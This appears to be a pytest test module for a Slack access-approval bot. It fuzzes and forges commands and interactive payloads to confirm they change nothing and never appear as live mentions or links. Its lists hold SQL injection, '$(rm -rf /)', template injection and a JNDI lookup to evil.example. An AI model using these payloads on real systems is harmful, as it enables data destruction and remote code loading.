"""Hostile input over signed HTTP: fuzzed ``/jit`` commands (hypothesis), oversized and unicode reasons, mrkdwn
and link injection, SQL-ish text, and interactive payloads with forged request ids, levels and values. Never a
500, always a clear answer, nothing changed that the input was not entitled to change, and nothing the input
said ever reaches Slack as a live mention or link."""

from __future__ import annotations

import json
import time
from collections import Counter
from typing import Any
from urllib.parse import urlencode

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from core.approvals import decide
from core.model import State
from core.submit import RequestInput, submit
from fakes import cast
from fakes.slack_calls import RecordedCall
from handlers import ids
from handlers.parsing import USAGE
from tests.helpers import valid_blocks
from tests.reliability.conftest import StackMaker
from tests.reliability.support import (
    AUDIT,
    RelStack,
    actions,
    answers,
    assert_unchanged,
    ctx,
    get,
    policy_file,
    slack_writes_since,
    trail,
    world,
)

SRE, MGR = "C0SREAPPR", "C0MGRAPPR"
LEVELS = [{"name": "SRE lead", "channel": SRE, "approvers": ["S0SRELEAD"], "required": 1},
          {"name": "Manager", "channel": MGR, "approvers": [cast.CAROL, cast.DAVE], "required": 1}]
#: what must never come back live from what someone typed (ids jitbot itself never mentions)
INJECTIONS = ["<!channel>", "<!here>", "<!everyone>", "<@U0EVIL001>", "<!subteam^S0EVIL01>",
              "<http://evil.example|click here>", "<#C0EVIL0001>", "<mailto:x@evil.example|mail>"]
SQLISH = ["'; DROP TABLE requests;--", "\" OR 1=1 --", "R1' OR '1'='1", "%'; DELETE FROM audit_events; --",
          "$(rm -rf /)", "{{7*7}}", "${jndi:ldap://evil.example/a}", "\\x00\\u0000"]
#: refusals are recorded, on purpose: the attempt is on record (and may be said in the audit channel)
REFUSAL_EVENTS = {"request_refused", "breakglass_refused"}


@pytest.fixture(scope="module")
def stack(module_stacks: StackMaker) -> RelStack:
    return module_stacks(policy_file(LEVELS, name="two-levels"))


@pytest.fixture(scope="module")
def pending(stack: RelStack) -> str:
    """Alice's request waiting at level 2 (Sam approved level 1): what forged clicks aim at."""
    made = submit(ctx(stack), RequestInput(cast.ALICE, "web-1", "hostile input target", "1h"))
    decide(ctx(stack), made.request.id, cast.SAM, approve=True)
    return made.request.id


def _live(text: str, typed: str) -> list[str]:
    """The injections of ``typed`` that came back live (unescaped) in ``text``."""
    return [i for i in INJECTIONS if i in typed and i in text]


def _shown(call: RecordedCall) -> str:
    params = call.params
    return json.dumps([params.get("text"), params.get("blocks"), params.get("view")])


def _command(stack: RelStack, user: str, text: str) -> tuple[int, str]:
    """``/jit <text>``: (HTTP status, the answer: an ephemeral text, or the title of the modal it opened)."""
    assert stack.sim is not None
    before, since = len(answers(stack)), len(stack.slack.calls)
    status = stack.sim.command(user, text).status
    if status != 200:
        return status, ""
    found = stack.slack.wait_for(lambda c: (c.method == "response_url" and len(answers(stack)) > before)
                                 or (c.method == "views.open" and stack.slack.calls.index(c) >= since), timeout=15)
    if found.method == "views.open":
        return status, f"modal: {found.params['view']['title']['text']}"
    params = answers(stack)[before].params
    if params.get("blocks"):
        valid_blocks(params["blocks"])
    return status, str(params.get("text") or "")


# -- fuzzing the command line ------------------------------------------------------------------------------------
def _sqlite_only(stack: RelStack) -> None:
    if not stack.database_url.startswith("sqlite"):
        pytest.skip("parsing does not depend on the database: fuzzed on SQLite only (the rest runs on both)")


WORDS = st.one_of(
    st.sampled_from([*USAGE, "breakglass", "explain", "REQUEST", "Cancel", "x" * 60]),
    st.sampled_from(["web-1", "i-0123456789abcdef0", "mi-0123456789abcdef0", "R1", "RNOPE1234", "r7k3q9xab",
                     "1h", "90s", "PT4H", "1d", "0s", "-1h", "99999999999999999999h", "1h30m", "4h2", "ticket=",
                     "ticket=ABC-1", "ticket=<!channel>", "123456789012/web-1", "us-east-1/web-1", "*bold*", "`x`"]),
    st.sampled_from(INJECTIONS + SQLISH),
    st.text(min_size=1, max_size=30),
    st.text(alphabet=st.characters(codec="utf-8", categories=["Lu", "Ll", "Nd", "So", "Zs", "Cf", "Mn"]),
            min_size=1, max_size=20),
)
COMMANDS = st.lists(WORDS, min_size=0, max_size=8).map(" ".join) | st.sampled_from(
    ["", " ", "\t\n", "x" * 4100, "request " + "y" * 3990, "request web-1 1h " + "z" * 1200])


@pytest.mark.slow
@settings(max_examples=30, deadline=None, derandomize=True, database=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(text=COMMANDS)
def test_fuzzed_commands_of_an_outsider_are_answered_and_change_nothing(stack: RelStack, text: str,
                                                                        figures: Counter[str]) -> None:
    """Oscar has no AWS identity and approves nothing: whatever he types, he gets an answer and nothing moves
    (a refused request or break-glass is recorded as an attempt, which is the point of recording)."""
    _sqlite_only(stack)
    before = world(stack)
    status, answer = _command(stack, cast.OSCAR, text)
    figures["requests: hostile input (fuzzed commands)"] += 1
    assert status == 200, (text, status)
    assert answer.strip() and ":boom:" not in answer, (text, answer)
    assert not _live(answer, text), (text, answer)
    after = world(stack)
    assert (after.requests, after.decisions, after.iam) == (before.requests, before.decisions, before.iam), text
    new_events = after.events[len(before.events):]
    assert after.events[:len(before.events)] == before.events
    assert {e.action for e in new_events} <= REFUSAL_EVENTS, (text, new_events)
    for call in slack_writes_since(stack, before):
        assert call.method == "views.open" or call.params.get("channel") == AUDIT, (text, call.method)
        assert not _live(_shown(call), text), (text, _shown(call))


@settings(max_examples=20, deadline=None, derandomize=True, database=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(node=WORDS, duration=WORDS, reason=st.lists(WORDS, min_size=0, max_size=4).map(" ".join))
def test_fuzzed_requests_are_answered_clearly(stack: RelStack, node: str, duration: str, reason: str,
                                              figures: Counter[str]) -> None:
    """Alice may request: a fuzzed request is refused with a reason, or recorded exactly as typed (then
    withdrawn again); it never breaks anything, and what she typed is never shown live."""
    _sqlite_only(stack)
    text = f"request {node} {duration} {reason}"
    before = world(stack)
    status, answer = _command(stack, cast.ALICE, text)
    figures["requests: hostile input (fuzzed requests)"] += 1
    assert status == 200 and answer.strip() and ":boom:" not in answer, (text, answer)
    assert not _live(answer, text), (text, answer)
    after = world(stack)
    made = [r for r in after.requests.values() if r.id not in before.requests]
    assert len(made) <= 1 and after.iam == before.iam, (text, made)
    for call in slack_writes_since(stack, before):
        assert not _live(_shown(call), text), (text, _shown(call))
    if made:
        assert made[0].state is State.PENDING and made[0].id in answer
        assert " ".join(made[0].reason.split()) == made[0].reason
        _command(stack, cast.ALICE, f"cancel {made[0].id}")


# -- reasons: long, unicode, mrkdwn, SQL ---------------------------------------------------------------------
UNICODE = "Ünïcödé 🔥🚀 中文 עברית ‮evil‬ z\u200bero-width e\u0301 " + "🧪" * 10


@pytest.mark.parametrize(("reason", "expected"), [
    ("r" * 1001, "The reason is 1001 characters long; keep it under 1000"),
    ("r" * 3980, "keep it under 1000"),
    ("r" * 4100, "That command is too long"),
    ("   \t  ", "reason"),
])
def test_oversized_or_empty_reasons_are_refused(stack: RelStack, reason: str, expected: str,
                                                figures: Counter[str]) -> None:
    before = world(stack)
    status, answer = _command(stack, cast.ALICE, f"request web-1 1h {reason}")
    figures["requests: hostile input (reasons)"] += 1
    assert status == 200 and expected in answer, answer
    assert_unchanged(stack, before, "an oversized reason")


@pytest.mark.parametrize("reason", [UNICODE, " ".join(INJECTIONS) + " *bold* _it_ ~s~ `code` ```block```",
                                    " ".join(SQLISH), "a" * 1000])
def test_any_reason_is_kept_verbatim_and_shown_inert(stack: RelStack, reason: str, figures: Counter[str]) -> None:
    since = len(stack.slack.calls)
    status, answer = _command(stack, cast.ALICE, f"request web-1 1h {reason} ticket=<!here>")
    figures["requests: hostile input (reasons)"] += 1
    assert status == 200 and "submitted" in answer, answer
    rid = answer.split("*")[1]
    request = get(stack, rid)
    assert request.reason == " ".join(reason.split()) and request.ticket == "<!here>"
    assert trail(stack, rid)[0].detail["reason"] == request.reason  # the audit trail has it as typed
    stack.slack.wait_for(lambda c: c.method == "chat.postMessage" and c.params.get("channel") == SRE
                         and rid in str(c.params.get("text")))
    shown = [c for c in stack.slack.calls[since:] if c.method in ("chat.postMessage", "chat.update")]
    assert shown
    for call in shown:
        if call.params.get("blocks"):
            valid_blocks(call.params["blocks"])
        assert not _live(_shown(call), reason + " <!here>"), _shown(call)
    assert "is cancelled" in _command(stack, cast.ALICE, f"cancel {rid}")[1]


def test_sqlish_node_names_and_ids_are_just_not_found(stack: RelStack, figures: Counter[str]) -> None:
    before = world(stack)
    for text in SQLISH:
        for command in (f"request {text} 1h reason", f"status {text}", f"cancel {text}", f"revoke {text} why"):
            status, answer = _command(stack, cast.ALICE, command)
            figures["requests: hostile input (SQL-ish)"] += 1
            assert status == 200 and answer and ":boom:" not in answer, (command, answer)
    assert_unchanged(stack, before, "SQL-ish input")
    with ctx(stack).uow() as uow:  # the tables are all there: reading them raises nothing
        uow.repo.events()
        uow.repo.in_states(list(State))


# -- forged interactive payloads ---------------------------------------------------------------------------------
def _raw_action(stack: RelStack, user: str, action_id: str, value: Any, block_id: str = "b") -> tuple[int, str]:
    """A block_actions payload as Slack would sign it, with any value at all."""
    assert stack.sim is not None
    before = len(answers(stack))
    payload = {"type": "block_actions", "user": {"id": user}, "team": {"id": stack.sim.team_id},
               "api_app_id": stack.sim.api_app_id, "trigger_id": stack.sim.new_trigger_id(),
               "response_url": stack.slack.make_response_url(), "channel": {"id": MGR},
               "actions": [{"action_id": action_id, "block_id": block_id, "value": value, "type": "button",
                            "action_ts": f"{time.time():.6f}"}]}
    body = urlencode({"payload": json.dumps(payload)}).encode()
    status = stack.sim.raw(body, stack.sim.signed_headers(body, "application/x-www-form-urlencoded")).status
    if status != 200:
        return status, ""
    stack.slack.wait_for(lambda c: c.method == "response_url" and len(answers(stack)) > before, timeout=15)
    return status, str(answers(stack)[before].params.get("text"))


@pytest.mark.parametrize(("user", "value", "expected"), [
    (cast.OSCAR, "{pending}", "Only the approvers of level 2"),  # a real id, the wrong person
    (cast.TINA, "{pending}", "Only the approvers of level 2"),  # a level-1 approver, level 2's button
    (cast.DAVE, "RNOPE12345", "There is no request RNOPE12345"),
    (cast.DAVE, "", "There is no request"),
    (cast.DAVE, "R" + "9" * 10_240, "There is no request R999"),  # 10 KB
    (cast.DAVE, "<!channel> <@U0EVIL001>", "There is no request &lt;!channel&gt;"),
    (cast.DAVE, "'; DROP TABLE requests;--", "There is no request"),
    (cast.DAVE, ["{pending}"], "There is no request"),  # not even a string
    (cast.DAVE, {"id": "{pending}", "level": 0}, "There is no request"),
])
def test_forged_button_values_are_refused(stack: RelStack, pending: str, user: str, value: Any, expected: str,
                                          figures: Counter[str]) -> None:
    value = json.loads(json.dumps(value).replace("{pending}", pending))
    before = world(stack)
    for action_id in (ids.APPROVE, ids.REJECT, ids.CANCEL, ids.RELEASE):
        status, answer = _raw_action(stack, user, action_id, value)
        figures["requests: hostile input (forged payloads)"] += 1
        assert status == 200 and ":boom:" not in answer, (action_id, answer)
        if action_id in (ids.APPROVE, ids.REJECT):
            assert expected in answer, (action_id, answer)
        assert "<!channel>" not in answer
    assert_unchanged(stack, before, f"a forged value {str(value)[:40]!r}")


def test_a_forged_level_in_the_block_id_changes_nothing(stack: RelStack, pending: str,
                                                        figures: Counter[str]) -> None:
    """Buttons carry the request id only; whatever the block claims, the request's own level decides."""
    before = world(stack)
    for block_id in ("level-0", "level-1", "level-4", "approve-" + pending):
        status, answer = _raw_action(stack, cast.TINA, ids.APPROVE, pending, block_id=block_id)
        figures["requests: hostile input (forged payloads)"] += 1
        assert status == 200 and "Only the approvers of level 2" in answer, answer
    assert_unchanged(stack, before, "a forged level")


REVIEW_VALUES: dict[str, dict[str, object]] = {
    "verdict": {"verdict_input": {"type": "radio_buttons", "selected_option": {"value": "justified"}}},
    "note": {"note_input": "forged"}}
MODALS = {"reject": (ids.REJECT_VIEW, {ids.REASON_BLOCK: {ids.REASON_INPUT: "no"}}, "There is no request"),
          "review": ("jit_breakglass_review_view", REVIEW_VALUES, "There is no break-glass use")}


@pytest.mark.parametrize("modal", list(MODALS))
@pytest.mark.parametrize("metadata", [
    "", "{{{not json", "[1, 2]", "null", "42", json.dumps({"id": None}), json.dumps({"id": ["R1"]}),
    json.dumps({"id": "RNOPE12345", "response_url": 42}), json.dumps({"id": "R" + "x" * 10_000}),
])
def test_forged_modal_submissions_are_refused(stack: RelStack, metadata: str, modal: str,
                                              figures: Counter[str]) -> None:
    """A modal submitted with private_metadata jitbot never gave it: refused, and the submitter is told (by DM,
    as there is nowhere else to answer)."""
    assert stack.sim is not None
    callback, values, expected = MODALS[modal]
    before, since = world(stack), time.time()
    response = stack.sim.view_submission(cast.DAVE, callback, values, private_metadata=metadata)
    figures["requests: hostile input (forged payloads)"] += 1
    assert response.status == 200, response.body
    told = stack.slack.wait_for(lambda c: c.method == "chat.postMessage" and c.at >= since
                                and c.params.get("channel") in (cast.DAVE, f"D{cast.DAVE}"), timeout=15)
    assert expected in str(told.params.get("text")), told.params
    after = world(stack)
    assert (after.requests, after.events, after.iam) == (before.requests, before.events, before.iam)


def test_a_forged_rejection_of_another_request_is_refused(stack: RelStack, pending: str,
                                                          figures: Counter[str]) -> None:
    """Tina opens nothing, but submits a reject modal naming level 2's request: refused like her click."""
    assert stack.sim is not None
    before = world(stack)
    response_url = stack.slack.make_response_url()
    count = len(answers(stack))
    response = stack.sim.view_submission(cast.TINA, ids.REJECT_VIEW,
                                         {ids.REASON_BLOCK: {ids.REASON_INPUT: "forged"}},
                                         private_metadata=json.dumps({"id": pending, "response_url": response_url}))
    figures["requests: hostile input (forged payloads)"] += 1
    assert response.status == 200
    stack.slack.wait_for(lambda c: c.method == "response_url" and len(answers(stack)) > count, timeout=15)
    assert "Only the approvers of level 2" in str(answers(stack)[count].params.get("text"))
    assert_unchanged(stack, before, "a forged rejection")
    assert actions(stack, pending) == ["submitted", "approve", "level_approved"]


def test_unknown_actions_and_callbacks_are_not_errors(stack: RelStack, figures: Counter[str]) -> None:
    assert stack.sim is not None
    before = world(stack)
    for response in (stack.sim.block_action(cast.DAVE, "jit_drop_tables", "R1", channel_id=MGR),
                     stack.sim.view_submission(cast.DAVE, "jit_unknown_view", {}),
                     stack.sim.shortcut(cast.DAVE, "jit_unknown_shortcut")):
        figures["requests: hostile input (forged payloads)"] += 1
        assert response.status in (200, 404), (response.status, response.body)
    assert_unchanged(stack, before, "an unknown action")
